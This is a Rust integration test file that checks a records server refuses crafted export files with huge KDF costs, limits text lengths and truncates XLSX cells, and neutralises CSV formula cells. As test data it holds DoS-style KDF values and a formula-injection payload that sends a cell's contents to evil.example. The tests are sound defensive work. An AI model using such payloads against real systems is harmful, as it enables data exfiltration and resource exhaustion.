//! Issue 10 items 2, 5 and 8: numbers read from an export file are bounded before use (the KDF
//! costs), texts have the shared length limits and always fit an XLSX cell, and CSV cells that
//! a spreadsheet would run as formulas are neutralised.

use std::io::Read;

use reqwest::{Method, StatusCode};
use serde_json::{Value, json};
use shared::export::{Contents, Scope, encode};
use shared::record::EntityKind;
use shared::roles::Role;
use shared::sync::OpStatus;
use uuid::Uuid;

use crate::common::{TestServer, assert_error, new_person, upsert};

fn now_ms() -> u64 {
    u64::try_from(chrono::Utc::now().timestamp_millis()).unwrap()
}

/// An encrypted export file whose KDF parameter `field` is set to `value` (as a crafted file
/// would carry it).
fn crafted(field: &str, value: u64) -> Vec<u8> {
    let contents = Contents {
        operations: vec![new_person("zhang", "b1", now_ms() - 1000)],
        attachments: vec![],
    };
    let text =
        encode(Uuid::nil(), "zhang", "2026-11-20T10:00:00Z", Scope::Pending, &contents, Some("pw"))
            .unwrap();
    let mut file: Value = serde_json::from_str(&text).unwrap();
    file["encryption"][field] = value.into();
    file.to_string().into_bytes()
}

/// The costs that used to abort the server (256 GiB of memory) or keep a core busy for ever.
fn crafted_files() -> Vec<(&'static str, Vec<u8>)> {
    vec![
        ("m_cost_kib = 256 GiB", crafted("m_cost_kib", 256 * 1024 * 1024)),
        ("t_cost = 2^32-1", crafted("t_cost", u64::from(u32::MAX))),
        ("p_cost = 2^24-1", crafted("p_cost", (1 << 24) - 1)),
    ]
}

#[tokio::test]
async fn crafted_kdf_costs_are_refused_through_the_api_and_the_upload_page() {
    let s = TestServer::start().await;
    let office = s.user_token("office", Role::TownOffice, &[]).await;
    for (what, body) in crafted_files() {
        let res = s
            .request(Method::POST, "/api/v1/import", Some(&office))
            .header("X-Export-Passphrase", "pw")
            .body(body.clone())
            .send()
            .await
            .unwrap();
        let err = assert_error(res, StatusCode::UNPROCESSABLE_ENTITY, "kdf_out_of_range").await;
        assert!(
            err["error"]["message"].as_str().unwrap().contains("加密参数超出允许范围"),
            "{what}"
        );

        let (content_type, form) = crate::import_form(
            &[("username", "office"), ("password", crate::common::PASSWORD), ("passphrase", "pw")],
            &body,
        );
        let res = s
            .request(Method::POST, "/import", None)
            .header("content-type", content_type)
            .body(form)
            .send()
            .await
            .unwrap();
        assert_eq!(res.status(), StatusCode::UNPROCESSABLE_ENTITY, "{what}");
        assert!(res.text().await.unwrap().contains("加密参数超出允许范围"), "{what}");
    }
    // The server is still up and nothing was imported.
    assert_eq!(s.pull(&office, 0, 10).await.ops.len(), 0);
}

#[tokio::test]
async fn crafted_kdf_costs_are_refused_by_the_cli() {
    let s = TestServer::start().await;
    s.add_user("office", Role::TownOffice, &[]).await;
    for (i, (what, body)) in crafted_files().into_iter().enumerate() {
        let path = s.data_dir.path().join(format!("crafted-{i}.json"));
        std::fs::write(&path, body).unwrap();
        let out = s
            .cli(&["import"])
            .arg("--file")
            .arg(&path)
            .args(["--passphrase", "pw", "--as", "office"])
            .output()
            .unwrap();
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(1), "{what}: a clear failure, not a signal: {stderr}");
        assert!(stderr.contains("加密参数超出允许范围"), "{what}: {stderr}");
    }
}

fn person_with(
    author: &str,
    millis: u64,
    id: Uuid,
    fields: &[(&str, Value)],
) -> shared::op::Operation {
    let changes: Vec<_> = fields.iter().map(|(k, v)| (*k, v.clone(), None)).collect();
    upsert(author, "d", millis, EntityKind::Person, id, "b1", &changes)
}

#[tokio::test]
async fn texts_over_the_shared_limit_are_refused_and_xlsx_cells_are_cut_to_fit() {
    let s = TestServer::start().await;
    let office = s.user_token("office", Role::TownOffice, &[]).await;
    let t = now_ms() - 60_000;
    let limit = shared::limits::max_chars_of("notes");

    // A note over the shared limit (here 40,000 characters, which made the XLSX export fail
    // with a 500) is refused at push with the limit in the message.
    let id = Uuid::now_v7();
    let long = "长".repeat(40_000);
    let res = s
        .push(
            &office,
            &[person_with("office", t, id, &[("name", json!("王海")), ("notes", json!(long))])],
        )
        .await;
    assert_eq!(res.results[0].code.as_deref(), Some("text_too_long"), "{:?}", res.results[0]);
    assert!(res.results[0].message.as_deref().unwrap().contains(&limit.to_string()));
    let fits = "注".repeat(limit);
    let res = s
        .push(
            &office,
            &[person_with("office", t, id, &[("name", json!("王海")), ("notes", json!(fits))])],
        )
        .await;
    assert_eq!(res.results[0].status, OpStatus::Accepted);

    // A record stored before the limits existed (written into the database as an older server
    // would have kept it): the XLSX export still answers, with the cell cut and marked.
    let changed = s
        .db()
        .execute(
            "UPDATE records SET record_json = replace(record_json, ?1, ?2) WHERE entity_id = ?3",
            &[&fits, &long, &id.to_string()],
        )
        .await;
    assert_eq!(changed, 1);
    let res =
        s.request(Method::GET, "/api/v1/exports/people.xlsx", Some(&office)).send().await.unwrap();
    assert_eq!(res.status(), StatusCode::OK);
    let bytes = res.bytes().await.unwrap();
    let mut zip = zip::ZipArchive::new(std::io::Cursor::new(bytes.to_vec())).unwrap();
    let mut strings = String::new();
    zip.by_name("xl/sharedStrings.xml").unwrap().read_to_string(&mut strings).unwrap();
    assert!(strings.contains("已截断"), "the cut cell is marked");
    let longest = strings.split(['<', '>']).map(|t| t.chars().count()).max().unwrap();
    assert!(longest <= 32_767, "{longest} characters in one cell");
}

#[tokio::test]
async fn csv_cells_that_start_a_formula_are_neutralised() {
    let s = TestServer::start().await;
    let office = s.user_token("office", Role::TownOffice, &[]).await;
    let t = now_ms() - 60_000;
    let hyperlink = "=HYPERLINK(\"http://evil.example/?d=\"&A2,\"点我\")";
    let res = s
        .push(
            &office,
            &[person_with(
                "office",
                t,
                Uuid::now_v7(),
                &[
                    ("name", json!("王海")),
                    ("notes", json!(hyperlink)),
                    ("village_unit", json!("@SUM(1+1)")),
                ],
            )],
        )
        .await;
    assert_eq!(res.results[0].status, OpStatus::Accepted, "{:?}", res.results[0]);
    let res =
        s.request(Method::GET, "/api/v1/exports/people.csv", Some(&office)).send().await.unwrap();
    assert_eq!(res.status(), StatusCode::OK);
    let bytes = res.bytes().await.unwrap();
    let mut reader = csv::Reader::from_reader(&bytes[3..]);
    let headers: Vec<String> = reader.headers().unwrap().iter().map(str::to_owned).collect();
    let row: Vec<String> =
        reader.records().next().unwrap().unwrap().iter().map(str::to_owned).collect();
    let col = |name: &str| &row[headers.iter().position(|h| h == name).unwrap()];
    assert_eq!(col("备注"), &format!("'{hyperlink}"));
    assert_eq!(col("村/单位"), "'@SUM(1+1)");
    assert_eq!(col("姓名"), "王海");
    assert_eq!(col("出生年份"), "", "numbers and empty cells untouched");
}
